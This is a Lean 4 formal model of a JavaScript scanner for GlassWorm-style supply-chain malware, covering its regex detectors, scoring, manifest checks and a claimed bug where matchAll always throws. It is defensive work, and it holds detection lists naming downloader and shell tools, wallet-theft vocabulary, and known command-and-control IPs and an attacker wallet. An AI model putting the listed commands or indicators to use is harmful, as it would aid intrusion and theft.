import Mathlib

set_option maxRecDepth 8192

/-!
Shallow embedding of the GlassWorm scanner (`scan-glassworm.js`).

File contents are modelled as their decoded text (a `String`); the raw bytes the
scanner reads are recovered through an explicit UTF-8 encoder.  JavaScript regular
expressions from the source are translated into executable character-level
predicates; positions are character indices (JavaScript counts UTF-16 units, which
agrees on the ASCII patterns involved here).  A central point of the development:
`String.prototype.matchAll` throws a `TypeError` when its argument is a RegExp
without the `g` flag (ECMA-262, enforced since V8 7.3 / Node 12; the tool requires
Node >= 16).  The `IP` and `SOLANA_WALLET` literals of the source (lines 47 and 50)
carry no flags, so the `matchAll` calls at lines 258 and 272 always throw.
-/

/-- JS word character for regex word boundaries (`\w`): ASCII letter, digit or underscore. -/
def jsWordChar (c : Char) : Bool :=
  decide ((65 ≤ c.toNat ∧ c.toNat ≤ 90) ∨ (97 ≤ c.toNat ∧ c.toNat ≤ 122) ∨
    (48 ≤ c.toNat ∧ c.toNat ≤ 57) ∨ c.toNat = 95)

/-- Character of the text at position i; out of range yields a (non-word) NUL. -/
def charAt (s : List Char) (i : Nat) : Char := s.getD i (Char.ofNat 0)

/-- Word-ness of the character at position i (false past the end). -/
def wordAt (s : List Char) (i : Nat) : Bool := jsWordChar (charAt s i)

/-- ECMA-262 word boundary assertion `\b` holding at position i of the text. -/
def jsWordBoundary (s : List Char) (i : Nat) : Bool :=
  (if i = 0 then false else wordAt s (i - 1)) != wordAt s i

/-- ASCII lower casing; the case folding relevant to the all-ASCII `i`-flag patterns. -/
def lowerAscii (c : Char) : Char :=
  if 65 ≤ c.toNat ∧ c.toNat ≤ 90 then Char.ofNat (c.toNat + 32) else c

/-- Literal occurrence of pat at position i of s, optionally case-insensitive. -/
def occursAt (ci : Bool) (pat : List Char) (s : List Char) (i : Nat) : Bool :=
  let seg := (s.drop i).take pat.length
  if ci then seg.map lowerAscii == pat.map lowerAscii else seg == pat

/-- Match of the literal alternative alt at position i surrounded by `\b` assertions,
exactly the shape `\b(a1|a2|...)\b` shared by the scanner's vocabulary patterns. -/
def altHitAt (ci : Bool) (alt : String) (s : List Char) (i : Nat) : Bool :=
  occursAt ci alt.data s i && jsWordBoundary s i && jsWordBoundary s (i + alt.data.length)

/-- RegExp.test for a `\b(...)\b` alternation: some alternative matches somewhere. -/
def wordAltTest (ci : Bool) (alts : List String) (s : List Char) : Bool :=
  (List.range (s.length + 1)).any fun i => alts.any fun a => altHitAt ci a s i

/-- RegExp.exec for a `\b(...)\b` alternation: the leftmost match, alternatives tried
in the backtracking order of the pattern; returns the match index and matched text. -/
def wordAltExec (ci : Bool) (alts : List String) (s : List Char) : Option (Nat × String) :=
  (List.range (s.length + 1)).findSome? fun i =>
    alts.findSome? fun a =>
      if altHitAt ci a s i then some (i, String.mk ((s.drop i).take a.data.length)) else none

/-- Invisible code points of the INVIS class (line 41): zero-width and BOM-class
characters, soft hyphen, variation selectors, Mongolian vowel separator. -/
def invisChar (c : Char) : Bool :=
  decide (c.toNat = 0x200B ∨ c.toNat = 0x200C ∨ c.toNat = 0x200D ∨ c.toNat = 0x2060 ∨
    c.toNat = 0x2063 ∨ c.toNat = 0xAD ∨ (0xFE00 ≤ c.toNat ∧ c.toNat ≤ 0xFE0F) ∨
    c.toNat = 0xFEFF ∨ c.toNat = 0x180E)

/-- INVIS.test: the text contains some invisible code point.  (The source literal has
the g flag and is reused across calls, which makes its lastIndex stateful in JS; the
single call inside one inspection is modelled statelessly.) -/
def invisTest (s : List Char) : Bool := s.any invisChar

/-- Identifier start character `[A-Za-z_$]` of the INVIS_ID pattern (line 42). -/
def identStartChar (c : Char) : Bool :=
  decide ((65 ≤ c.toNat ∧ c.toNat ≤ 90) ∨ (97 ≤ c.toNat ∧ c.toNat ≤ 122)) ||
    (c == '_') || (c == '$')

/-- Identifier continuation character `[\w$]`. -/
def identPartChar (c : Char) : Bool := jsWordChar c || c == '$'

/-- Length of an INVIS_ID match starting at position i, when one exists: an
identifier start, a `[\w$]*` run, one invisible character (forced, since `[\w$]`
and the invisible class are disjoint), then the maximal `[\w$]*` run. -/
def invisIdMatchLen (s : List Char) (i : Nat) : Option Nat :=
  match s.drop i with
  | [] => none
  | c :: rest =>
    if identStartChar c then
      let run := (rest.takeWhile identPartChar).length
      match rest.drop run with
      | [] => none
      | d :: rest2 =>
        if invisChar d then some (1 + run + 1 + (rest2.takeWhile identPartChar).length)
        else none
    else none

/-- Fueled global-regex scan: repeatedly take the leftmost match and continue past
it (lastIndex semantics of a g-flagged regex; an empty match advances by one). -/
def scanGo (matchLenAt : List Char → Nat → Option Nat) (s : List Char) :
    Nat → Nat → List String → List String
  | 0, _, acc => acc.reverse
  | fuel + 1, i, acc =>
    if s.length ≤ i then acc.reverse
    else match matchLenAt s i with
      | some len => scanGo matchLenAt s fuel (i + max len 1)
          (String.mk ((s.drop i).take len) :: acc)
      | none => scanGo matchLenAt s fuel (i + 1) acc

/-- All matches of a global regex over the text, in order. -/
def scanAll (matchLenAt : List Char → Nat → Option Nat) (s : List Char) : List String :=
  scanGo matchLenAt s (s.length + 1) 0 []

/-- String.prototype.match with the g-flagged INVIS_ID regex: the list of all
identifier tokens containing an invisible code point ([] models a null result). -/
def invisIdMatches (s : List Char) : List String := scanAll invisIdMatchLen s

/-- JS `\s` (and the whitespace collapsed by `replace(/\s+/g, ' ')`). -/
def jsWsChar (c : Char) : Bool :=
  decide (c.toNat = 9 ∨ c.toNat = 10 ∨ c.toNat = 11 ∨ c.toNat = 12 ∨ c.toNat = 13 ∨
    c.toNat = 32 ∨ c.toNat = 160 ∨ c.toNat = 0x1680 ∨
    (0x2000 ≤ c.toNat ∧ c.toNat ≤ 0x200A) ∨ c.toNat = 0x2028 ∨ c.toNat = 0x2029 ∨
    c.toNat = 0x202F ∨ c.toNat = 0x205F ∨ c.toNat = 0x3000 ∨ c.toNat = 0xFEFF)

/-- ECMAScript line terminators, the characters `.` does not match without the s flag. -/
def lineTerminatorChar (c : Char) : Bool :=
  decide (c.toNat = 10 ∨ c.toNat = 13 ∨ c.toNat = 0x2028 ∨ c.toNat = 0x2029)

/-- Character admitted after the scheme by the HTTP pattern: the class
`[^\s"'(backtick)<>(braces)]` of line 49, given here by code points. -/
def urlTailChar (c : Char) : Bool :=
  !(jsWsChar c || decide (c.toNat = 34 ∨ c.toNat = 39 ∨ c.toNat = 96 ∨
    c.toNat = 60 ∨ c.toNat = 62 ∨ c.toNat = 123 ∨ c.toNat = 125))

/-- Match of the HTTP pattern `https?:\/\/[^\s"'...]+/i` (line 49) at position i:
a scheme followed by at least one admitted character. -/
def httpAt (s : List Char) (i : Nat) : Bool :=
  (occursAt true "http://".data s i && decide (i + 7 < s.length) &&
    urlTailChar (charAt s (i + 7))) ||
  (occursAt true "https://".data s i && decide (i + 8 < s.length) &&
    urlTailChar (charAt s (i + 8)))

/-- HTTP.test: the text contains an http(s) URL shape somewhere. -/
def httpTest (s : List Char) : Bool := (List.range (s.length + 1)).any (httpAt s)

/-- Downloader tokens of SHELL_DOWNLOAD (line 46), in pattern order. -/
def shellDlAlts : List String := ["curl", "wget", "iwr", "Invoke-WebRequest"]

/-- SHELL_DOWNLOAD.test: `\b(curl|wget|iwr|Invoke-WebRequest)\b.*\b(http|https):\/\//i` —
a downloader token followed, with no intervening line terminator (dot does not cross
lines), by a word-boundary-preceded http(s) scheme. -/
def shellDownloadTest (s : List Char) : Bool :=
  (List.range (s.length + 1)).any fun i =>
    shellDlAlts.any fun d =>
      altHitAt true d s i &&
      ((List.range (s.length + 1)).any fun j =>
        decide (i + d.data.length ≤ j) &&
        (((s.drop (i + d.data.length)).take (j - (i + d.data.length))).all
          fun c => !lineTerminatorChar c) &&
        jsWordBoundary s j &&
        (occursAt true "http://".data s j || occursAt true "https://".data s j))

/-- SUS_WORDS alternatives (line 43) in backtracking order; `rpc(?:Url|\.url)?`
expands, greedily, to rpcUrl, rpc.url, rpc. -/
def susWordsAlts : List String :=
  ["solana", "metaplex", "phantom", "solscan", "rpcUrl", "rpc.url", "rpc",
   "calendar.app.google", "calendar.google", "transaction", "memo",
   "getTransaction", "getParsedTransaction", "wallet",
   "chrome.storage", "browser.storage"]

/-- NET_FUNCS alternatives (line 44); `require\(['"]https?['"]\)` expands over the
two independent quote classes and the optional s, `https?\.(get|request)` over
scheme and member. -/
def netFuncsAlts : List String :=
  ["fetch", "XMLHttpRequest", "axios",
   "require('https')", "require('http')",
   "require('https\")", "require('http\")",
   "require(\"https')", "require(\"http')",
   "require(\"https\")", "require(\"http\")",
   "https.get", "https.request", "http.get", "http.request"]

/-- DANGEROUS alternatives (line 45), in pattern order. -/
def dangerousAlts : List String :=
  ["eval", "Function", "child_process", "spawn", "exec", "execFile",
   "PowerShell", "WScript.Shell"]

/-- Interpreter tokens checked against lifecycle script bodies (line 331). -/
def interpAlts : List String := ["node", "sh", "bash", "powershell"]

/-- Interpreter/downloader tokens of the generic exec+network check (line 338). -/
def execNetAlts : List String := ["sh", "bash", "powershell", "curl", "wget", "node"]

/-- Solana vocabulary of the co-occurrence check (line 274), case-sensitive. -/
def solanaKeywordAlts : List String :=
  ["getTransaction", "getParsedTransaction", "memo", "@solana/web3", "Connection"]

/-- Base58 alphabet of SOLANA_WALLET (line 50): `[1-9A-HJ-NP-Za-km-z]`. -/
def base58Char (c : Char) : Bool :=
  decide ((49 ≤ c.toNat ∧ c.toNat ≤ 57) ∨ (65 ≤ c.toNat ∧ c.toNat ≤ 72) ∨
    (74 ≤ c.toNat ∧ c.toNat ≤ 78) ∨ (80 ≤ c.toNat ∧ c.toNat ≤ 90) ∨
    (97 ≤ c.toNat ∧ c.toNat ≤ 107) ∨ (109 ≤ c.toNat ∧ c.toNat ≤ 122))

/-- Length of a SOLANA_WALLET match at position i: since base58 characters are word
characters, the trailing `\b` forces the quantifier to take the whole base58 run,
which must have length 32..44 and end at a non-word position. -/
def solanaMatchLenAt (s : List Char) (i : Nat) : Option Nat :=
  let r := ((s.drop i).takeWhile base58Char).length
  if jsWordBoundary s i && decide (32 ≤ r) && decide (r ≤ 44) && jsWordBoundary s (i + r)
  then some r else none

/-- SOLANA_WALLET.test: a wallet-shaped base58 token occurs in the text. -/
def solanaWalletTest (s : List Char) : Bool :=
  (List.range (s.length + 1)).any fun i => (solanaMatchLenAt s i).isSome

/-- Digit character. -/
def digitChar (c : Char) : Bool := decide (48 ≤ c.toNat ∧ c.toNat ≤ 57)

/-- Candidate lengths, in backtracking order, of the octet alternation
`25[0-5]|2[0-4]\d|[01]?\d?\d` of the IP pattern (line 47) at position i. -/
def octetLens (s : List Char) (i : Nat) : List Nat :=
  let c0 := charAt s i; let c1 := charAt s (i + 1); let c2 := charAt s (i + 2)
  (if c0 = '2' ∧ c1 = '5' ∧ (48 ≤ c2.toNat ∧ c2.toNat ≤ 53) then [3] else []) ++
  (if c0 = '2' ∧ (48 ≤ c1.toNat ∧ c1.toNat ≤ 52) ∧ digitChar c2 then [3] else []) ++
  (if (c0 = '0' ∨ c0 = '1') ∧ digitChar c1 ∧ digitChar c2 then [3] else []) ++
  (if (c0 = '0' ∨ c0 = '1') ∧ digitChar c1 then [2] else []) ++
  (if digitChar c0 ∧ digitChar c1 then [2] else []) ++
  (if digitChar c0 then [1] else [])

/-- End positions, in backtracking order, of `octet(\.octet){k}` read from i. -/
def ipFrom (s : List Char) (i : Nat) : Nat → List Nat
  | 0 => (octetLens s i).map (i + ·)
  | k + 1 => (octetLens s i).flatMap fun len =>
      if charAt s (i + len) = '.' then ipFrom s (i + len + 1) k else []

/-- Length of an IP-pattern match at position i: four dotted octets between `\b`
assertions, the backtracking choosing the first octet split whose end lands on a
word boundary. -/
def ipMatchLenAt (s : List Char) (i : Nat) : Option Nat :=
  if jsWordBoundary s i then
    (ipFrom s i 3).findSome? fun e => if jsWordBoundary s e then some (e - i) else none
  else none

/-- All matches the IP pattern would produce under a g flag.  The source literal has
no flags, so this matcher is never consulted: matchAll throws first (see jsMatchAll). -/
def ipAllMatches (t : String) : List String := scanAll ipMatchLenAt t.data

/-- All matches the SOLANA_WALLET pattern would produce under a g flag; like
ipAllMatches, unreachable behind the missing g flag. -/
def solanaAllMatches (t : String) : List String := scanAll solanaMatchLenAt t.data

/-- A JS RegExp value: its g flag and the matches it would yield on a text. -/
structure JsRegex where
  global : Bool
  allMatches : String → List String

/-- The IP literal of line 47: written with no flags. -/
def ipRegex : JsRegex := ⟨false, ipAllMatches⟩

/-- The SOLANA_WALLET literal of line 50: written with no flags. -/
def solanaWalletRegex : JsRegex := ⟨false, solanaAllMatches⟩

/-- Errors surfacing from an inspection, identified as in JS by their message. -/
inductive JsError where
  | typeError
  | timeout
  | other (msg : String)
deriving DecidableEq, Repr

/-- The message carried by the error (`err.message`); typeError carries the V8 text
raised by String.prototype.matchAll on a non-global RegExp. -/
def JsError.message : JsError → String
  | .typeError => "String.prototype.matchAll called with a non-global RegExp argument"
  | .timeout => "timeout"
  | .other m => m

/-- String.prototype.matchAll: ECMA-262 requires a TypeError when the RegExp
argument lacks the g flag, before any matching is attempted. -/
def jsMatchAll (re : JsRegex) (s : String) : Except JsError (List String) :=
  if re.global then Except.ok (re.allMatches s) else Except.error JsError.typeError

/-- UTF-8 bytes of the file text, the buffer the scanner classifies (line 202). -/
def utf8Bytes (s : String) : List Nat :=
  (s.data.map fun c =>
    let n := c.toNat
    if n < 0x80 then [n]
    else if n < 0x800 then [0xC0 + n / 64, 0x80 + n % 64]
    else if n < 0x10000 then [0xE0 + n / 4096, 0x80 + (n / 64) % 64, 0x80 + n % 64]
    else [0xF0 + n / 262144, 0x80 + (n / 4096) % 64, 0x80 + (n / 64) % 64,
      0x80 + n % 64]).flatten

/-- Loop of isBinaryLikely (lines 65-69): none when a NUL byte is hit, otherwise
the running count of weird control bytes. -/
def binScan : List Nat → Nat → Option Nat
  | [], weird => some weird
  | c :: rest, weird =>
    if c = 0 then none
    else binScan rest (if c < 9 ∨ (13 < c ∧ c < 32) then weird + 1 else weird)

/-- isBinaryLikely (lines 62-71).  The source compares `weird > len * 0.1` in IEEE
doubles; for integer weird and len <= 4096 that comparison coincides exactly with
the rational one, rendered here as `10 * weird > len`. -/
def isBinaryLikely (buf : List Nat) : Bool :=
  let sample := buf.take 4096
  match binScan sample 0 with
  | none => true
  | some weird => decide (sample.length < 10 * weird)

/-- MAX_BYTES (line 26). -/
def MAX_BYTES : Nat := 3 * 1024 * 1024

/-- IGNORE_FILES (lines 35-38). -/
def IGNORE_FILES : List String :=
  ["LICENSE", "CHANGELOG", "CHANGES", "README", "HISTORY", "NOTICE",
   "yarn.lock", "pnpm-lock.yaml", "package-lock.json", "npm-shrinkwrap.json"]

/-- SKIP_SUFFIX (line 40). -/
def SKIP_SUFFIX : List String :=
  [".min.js", ".map", ".d.ts", ".md", ".markdown", ".txt", ".svg", ".png",
   ".jpg", ".jpeg", ".gif", ".webp", ".wasm"]

/-- ALLOWED_EXT (line 34). -/
def ALLOWED_EXT : List String := [".js", ".mjs", ".cjs", ".ts", ".json", ".jsx", ".tsx"]

/-- KNOWN_C2_IPS (line 51). -/
def KNOWN_C2_IPS : List String := ["217.69.3.218", "140.82.52.31"]

/-- KNOWN_SOLANA_WALLET (line 52). -/
def KNOWN_SOLANA_WALLET : String := "28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2"

/-- String.prototype.endsWith. -/
def jsEndsWith (s pat : String) : Bool := pat.data.isSuffixOf s.data

/-- String.prototype.startsWith. -/
def jsStartsWith (s pat : String) : Bool := pat.data.isPrefixOf s.data

/-- ignoreName (lines 104-108). -/
def ignoreName (name : String) : Bool :=
  IGNORE_FILES.contains name || SKIP_SUFFIX.any fun suf => jsEndsWith name suf

/-- jsLike (lines 94-97): json files qualify only when they are a package.json. -/
def jsLike (ext base : String) : Bool :=
  if ext = ".json" then base == "package.json" else ALLOWED_EXT.contains ext

/-- Severity classes. -/
inductive Level where
  | critical
  | high
  | medium
  | low
deriving DecidableEq, Repr

/-- classify (lines 179-184). -/
def classify (score : Int) : Level :=
  if 80 ≤ score then .critical
  else if 60 ≤ score then .high
  else if 40 ≤ score then .medium
  else .low

/-- The parts record of inspect (lines 209-228): one boolean signal per detector
plus the derived multipleSignals count. -/
structure Parts where
  invisInIdentifier : Bool := false
  invisAnywhere : Bool := false
  suspiciousWords : Bool := false
  netFuncs : Bool := false
  dangerous : Bool := false
  shellDownload : Bool := false
  hardcodedIp : Bool := false
  b64UrlDecoded : Bool := false
  pkgPostInstall : Bool := false
  pkgExecNet : Bool := false
  fileIsExecutableScript : Bool := false
  knownC2Infrastructure : Bool := false
  solanaBlockchainC2 : Bool := false
  googleCalendarC2 : Bool := false
  credentialTheft : Bool := false
  vsCodeExtensionAPI : Bool := false
  cryptoWalletTargeting : Bool := false
  multipleSignals : Nat := 0
deriving DecidableEq, Repr

/-- scoreFinding (lines 151-172): additive weights, saturated at 100. -/
def scoreFinding (parts : Parts) : Nat :=
  let score :=
    (if parts.invisInIdentifier then 40 else 0)
    + (if parts.invisAnywhere then 10 else 0)
    + (if parts.suspiciousWords then 25 else 0)
    + (if parts.netFuncs then 15 else 0)
    + (if parts.dangerous then 25 else 0)
    + (if parts.shellDownload then 35 else 0)
    + (if parts.hardcodedIp then 20 else 0)
    + (if parts.b64UrlDecoded then 45 else 0)
    + (if parts.pkgPostInstall then 40 else 0)
    + (if parts.pkgExecNet then 30 else 0)
    + (if parts.fileIsExecutableScript then 10 else 0)
    + (if parts.knownC2Infrastructure then 60 else 0)
    + (if parts.solanaBlockchainC2 then 50 else 0)
    + (if parts.googleCalendarC2 then 50 else 0)
    + (if parts.credentialTheft then 35 else 0)
    + (if parts.vsCodeExtensionAPI then 20 else 0)
    + (if parts.cryptoWalletTargeting then 30 else 0)
    + (if 3 ≤ parts.multipleSignals then 15 else 0)
  min score 100

/-- multipleSignals (lines 358-362): count of the fixed canonical signal subset. -/
def multiCount (p : Parts) : Nat :=
  [p.invisInIdentifier, p.suspiciousWords, p.netFuncs, p.dangerous, p.shellDownload,
   p.hardcodedIp, p.b64UrlDecoded, p.pkgPostInstall, p.pkgExecNet, p.solanaBlockchainC2,
   p.googleCalendarC2, p.credentialTheft, p.cryptoWalletTargeting].count true

/-- Evidence details attached to a finding; only the fields assignable on the
reachable paths of inspect are carried (the source branch past line 258 never runs). -/
structure Details where
  invisIdentifiers : Option (List String) := none
  suspiciousWords : Option (String × String) := none
  pkgScripts : Option (List (String × String)) := none
  pkgExecNet : Option (List (String × String)) := none
  vsCodeEngine : Option String := none
  activationEvents : Option (List String) := none
deriving DecidableEq, Repr

/-- A finding (lines 369-375); signals is the parts record (the JS object keeps only
its truthy entries, which loses no information). -/
structure Finding where
  file : String
  level : Level
  score : Nat
  signals : Parts
  details : Details
deriving DecidableEq, Repr

/-- The scan configuration read from the environment (lines 28-29). -/
structure ScanConfig where
  minScore : Int
  includeLow : Bool

/-- The default configuration: MIN_SCORE 60, INCLUDE_LOW unset. -/
def defaultCfg : ScanConfig := ⟨60, false⟩

/-- Tail of inspect (lines 364-375): the low-severity filter and the returned
finding.  The nested `if (level === low && !INCLUDE_LOW) if (score < MIN_SCORE)
return null` flattens to the single conjunction guarding none. -/
def finalize (cfg : ScanConfig) (file : String) (parts : Parts) (details : Details) :
    Option Finding :=
  let score := scoreFinding parts
  let level := classify (score : Int)
  if level = .low ∧ cfg.includeLow = false ∧ (score : Int) < cfg.minScore then none
  else some ⟨file, level, score, parts, details⟩

/-- A parsed package.json, the product of the JSON.parse call at line 325; bin is
some when the manifest has an object-typed bin field. -/
structure PackageJson where
  scripts : List (String × String) := []
  bin : Option (List (String × String)) := none
  enginesVscode : Option String := none
  activationEvents : Option (List String) := none
deriving DecidableEq, Repr

/-- Lifecycle script names of the regex at line 329 (anchored, case-insensitive). -/
def lifecycleNames : List String :=
  ["postinstall", "preinstall", "install", "prepare", "prepublish", "prepublishonly"]

/-- ASCII lowercasing of a string. -/
def lowerStr (s : String) : String := String.mk (s.data.map lowerAscii)

/-- nameHit (line 329). -/
def nameHit (k : String) : Bool := lifecycleNames.contains (lowerStr k)

/-- netHit (line 330). -/
def netHit (v : String) : Bool := httpTest v.data || shellDownloadTest v.data

/-- execHit (line 331). -/
def execHit (v : String) : Bool :=
  wordAltTest false dangerousAlts v.data || wordAltTest false interpAlts v.data

/-- Manifest branch of inspect (lines 323-355); none models a JSON.parse failure,
swallowed with no signal (line 355). -/
def manifestBranch (m : Option PackageJson) : Parts × Details :=
  match m with
  | none => ({}, {})
  | some pj =>
    let sus := pj.scripts.filter fun kv => nameHit kv.1 && (netHit kv.2 || execHit kv.2)
    let pd : Parts × Details :=
      if !sus.isEmpty then
        ({ pkgPostInstall := true }, { pkgScripts := some sus })
      else
        let execNet := pj.scripts.filter fun kv =>
          httpTest kv.2.data && wordAltTest false execNetAlts kv.2.data
        if !execNet.isEmpty then
          ({ pkgExecNet := true }, { pkgExecNet := some (execNet.take 5) })
        else ({}, {})
    let p2 : Parts :=
      match pj.bin with
      | some bs => if !bs.isEmpty then { pd.1 with fileIsExecutableScript := true } else pd.1
      | none => pd.1
    match pj.enginesVscode with
    | some v =>
      ({ p2 with vsCodeExtensionAPI := true },
       { pd.2 with vsCodeEngine := some v, activationEvents := pj.activationEvents })
    | none => (p2, pd.2)

/-- Insertion-order deduplication, the JS `[...new Set(xs)]`. -/
def dedupKeepFirst (l : List String) : List String :=
  l.foldl (fun acc x => if acc.contains x then acc else acc ++ [x]) []

/-- Fueled run-collapsing of whitespace, `replace(/\s+/g, ' ')`. -/
def collapseGo : Nat → List Char → List Char
  | 0, _ => []
  | _, [] => []
  | fuel + 1, c :: rest =>
    if jsWsChar c then Char.ofNat 32 :: collapseGo fuel (rest.dropWhile jsWsChar)
    else c :: collapseGo fuel rest

/-- Whitespace collapsing over a whole text. -/
def collapseWs (l : List Char) : List Char := collapseGo l.length l

/-- sliceSnippet (lines 139-143) with the default span of 140. -/
def sliceSnippet (s : List Char) (idx : Nat) : List Char :=
  collapseWs ((s.take (idx + 70)).drop (idx - 70))

/-- Lines 258-267 of inspect: collect the IP matches, drop private/loopback
prefixes, record the evidence and the known-C2 cross-check.  The jsMatchAll call
throws for every text: the IP literal has no g flag. -/
def hardcodedIpBlock (t : String) :
    Except JsError (Bool × List String × Bool × List String) := do
  let ms ← jsMatchAll ipRegex t
  let ips := ms.filter fun ip =>
    !(jsStartsWith ip "127." || jsStartsWith ip "0." || jsStartsWith ip "10." ||
      jsStartsWith ip "192.168." || jsStartsWith ip "172.16.")
  if !ips.isEmpty then
    let knownIps := ips.filter fun ip => KNOWN_C2_IPS.contains ip
    return (true, (dedupKeepFirst ips).take 8, !knownIps.isEmpty, knownIps)
  else
    return (false, [], false, [])

/-- Lines 270-279 of inspect: the Solana C2 block.  When the wallet-shape test
fires, the matchAll call on the flagless SOLANA_WALLET literal throws; the
returned triple is (solanaBlockchainC2, captured wallets, hasKnownWallet). -/
def solanaC2Block (t : String) : Except JsError (Bool × List String × Bool) := do
  if solanaWalletTest t.data then
    let wallets ← jsMatchAll solanaWalletRegex t
    let hasKnownWallet := wallets.contains KNOWN_SOLANA_WALLET
    let hasSolanaKeywords := wordAltTest false solanaKeywordAlts t.data
    if hasKnownWallet || (!wallets.isEmpty && hasSolanaKeywords) then
      return (true, (dedupKeepFirst wallets).take 5, hasKnownWallet)
    else
      return (false, [], false)
  else
    return (false, [], false)

/-- Source-kind branch of inspect (lines 231-258).  The detector booleans and
evidence of lines 232-257 are computed first; then line 258 evaluates
`[...textForRegex.matchAll(IP)]`, which throws a TypeError on every input because
the IP literal (line 47) has no g flag.  The remainder of the branch (lines
259-368) is therefore unreachable for source files; its first two sub-blocks are
traced through hardcodedIpBlock and solanaC2Block, and the final expression below
is never evaluated (the bind has already produced the error). -/
def sourceBranch (t : String) : Except JsError (Option Finding) := do
  let s := t.data
  let matchId := invisIdMatches s
  let _parts : Parts := {
    invisInIdentifier := !matchId.isEmpty
    invisAnywhere := matchId.isEmpty && invisTest s
    suspiciousWords := wordAltTest true susWordsAlts s
    netFuncs := wordAltTest false netFuncsAlts s
    dangerous := wordAltTest false dangerousAlts s
    shellDownload := shellDownloadTest s }
  let _details : Details := {
    invisIdentifiers := if matchId.isEmpty then none
      else some (dedupKeepFirst (matchId.take 5))
    suspiciousWords := if wordAltTest true susWordsAlts s then
        match wordAltExec true susWordsAlts s with
        | some (idx, m) => some (m, String.mk (sliceSnippet s idx))
        | none => none
      else none }
  let _ip ← hardcodedIpBlock t
  let _sol ← solanaC2Block t
  Except.error JsError.typeError

/-- A candidate file as inspect receives it: path together with the basename and
lowercased extension Node derives from it, the stat size, whether stat/readFile
succeed, the decoded text, and the JSON.parse result for manifest texts. -/
structure FileInput where
  path : String
  base : String
  ext : String
  size : Nat
  readable : Bool
  content : String
  manifest : Option PackageJson := none
deriving DecidableEq, Repr

/-- inspect (lines 191-376).  Gates in source order: name ignore list, stat, size
cap, extension, read, binary sniff.  Source-kind files enter sourceBranch (which
always throws, see above); json files reach the manifest branch and the
score/classify/filter tail. -/
def inspect (cfg : ScanConfig) (f : FileInput) : Except JsError (Option Finding) :=
  if ignoreName f.base then .ok none
  else if !f.readable then .ok none
  else if MAX_BYTES < f.size then .ok none
  else if !jsLike f.ext f.base then .ok none
  else if isBinaryLikely (utf8Bytes f.content) then .ok none
  else
    let text := f.content
    let textForRegex := if 500000 < text.length then String.mk (text.data.take 500000)
      else text
    if f.ext ≠ ".json" then sourceBranch textForRegex
    else
      let pd := if f.base = "package.json" then manifestBranch f.manifest else ({}, {})
      let parts := { pd.1 with multipleSignals := multiCount pd.1 }
      .ok (finalize cfg f.path parts pd.2)

/-- A skip record pushed by the orchestrator (line 414). -/
structure SkipRecord where
  file : String
  reason : String
deriving DecidableEq, Repr

/-- The shared mutable state of the worker pool (lines 387-389). -/
structure ScanState where
  out : List Finding
  skipped : List SkipRecord
  processed : Nat
deriving DecidableEq, Repr

/-- Handling of one popped file by a worker (lines 408-417): a truthy result is
pushed, a rejection whose message is timeout records a skip, any other rejection
is swallowed; processed is incremented on every path. -/
def workerStep (st : ScanState) (f : String) (r : Except JsError (Option Finding)) :
    ScanState :=
  match r with
  | .ok (some fd) => { st with out := st.out ++ [fd], processed := st.processed + 1 }
  | .ok none => { st with processed := st.processed + 1 }
  | .error e =>
    if e.message = "timeout" then
      { st with skipped := st.skipped ++ [⟨f, "timeout"⟩], processed := st.processed + 1 }
    else { st with processed := st.processed + 1 }

deriving instance DecidableEq for Except

/-- A dispatched inspection: the file path, the wall-clock duration the inspection
would take, and the outcome inspect would deliver. -/
structure FileTask where
  path : String
  duration : Nat
  result : Except JsError (Option Finding)
deriving DecidableEq, Repr

/-- inspectWithTimeout (lines 399-404): Promise.race of the inspection against a
timer of ms milliseconds; the timer wins exactly when the inspection takes longer. -/
def inspectWithTimeout (t : FileTask) (ms : Nat) : Except JsError (Option Finding) :=
  if ms < t.duration then Except.error JsError.timeout else t.result

/-- The worker pool drains the shared queue, each file popped exactly once and its
completion folded into the shared collections (lines 406-420); the per-path
accounting below is independent of the completion interleaving, so the drain is
modelled as a fold over the dispatch order. -/
def runScan (ms : Nat) (files : List FileTask) : ScanState :=
  files.foldl (fun st t => workerStep st t.path (inspectWithTimeout t ms)) ⟨[], [], 0⟩

/-- The skip record a task contributes, if any. -/
def skipOf (ms : Nat) (t : FileTask) : Option SkipRecord :=
  match inspectWithTimeout t ms with
  | .error e => if e.message = "timeout" then some ⟨t.path, "timeout"⟩ else none
  | .ok _ => none

/-- The finding a task contributes, if any. -/
def findingOf (ms : Nat) (t : FileTask) : Option Finding :=
  match inspectWithTimeout t ms with
  | .ok (some fd) => some fd
  | _ => none

/-- Well-formedness tying a dispatched outcome to its path: inspect returns the
popped file path inside the finding it builds (line 370). -/
def taskWF (t : FileTask) : Bool :=
  match t.result with
  | .ok (some fd) => fd.file == t.path
  | _ => true

/-- Pointwise order on signal sets: every signal set in p is set in q, and the
derived count does not decrease. -/
def partsLE (p q : Parts) : Prop :=
  (p.invisInIdentifier = true → q.invisInIdentifier = true) ∧
  (p.invisAnywhere = true → q.invisAnywhere = true) ∧
  (p.suspiciousWords = true → q.suspiciousWords = true) ∧
  (p.netFuncs = true → q.netFuncs = true) ∧
  (p.dangerous = true → q.dangerous = true) ∧
  (p.shellDownload = true → q.shellDownload = true) ∧
  (p.hardcodedIp = true → q.hardcodedIp = true) ∧
  (p.b64UrlDecoded = true → q.b64UrlDecoded = true) ∧
  (p.pkgPostInstall = true → q.pkgPostInstall = true) ∧
  (p.pkgExecNet = true → q.pkgExecNet = true) ∧
  (p.fileIsExecutableScript = true → q.fileIsExecutableScript = true) ∧
  (p.knownC2Infrastructure = true → q.knownC2Infrastructure = true) ∧
  (p.solanaBlockchainC2 = true → q.solanaBlockchainC2 = true) ∧
  (p.googleCalendarC2 = true → q.googleCalendarC2 = true) ∧
  (p.credentialTheft = true → q.credentialTheft = true) ∧
  (p.vsCodeExtensionAPI = true → q.vsCodeExtensionAPI = true) ∧
  (p.cryptoWalletTargeting = true → q.cryptoWalletTargeting = true) ∧
  p.multipleSignals ≤ q.multipleSignals

instance (p q : Parts) : Decidable (partsLE p q) := by
  unfold partsLE
  infer_instance

/-- Modelled from the spec: the fixed per-signal weight table of section 4.3, in
the order the table lists it, to be compared against the scoring the code does. -/
def specWeightSum (p : Parts) : Nat :=
  (if p.knownC2Infrastructure then 60 else 0)
  + (if p.solanaBlockchainC2 then 50 else 0)
  + (if p.googleCalendarC2 then 50 else 0)
  + (if p.b64UrlDecoded then 45 else 0)
  + (if p.invisInIdentifier then 40 else 0)
  + (if p.pkgPostInstall then 40 else 0)
  + (if p.credentialTheft then 35 else 0)
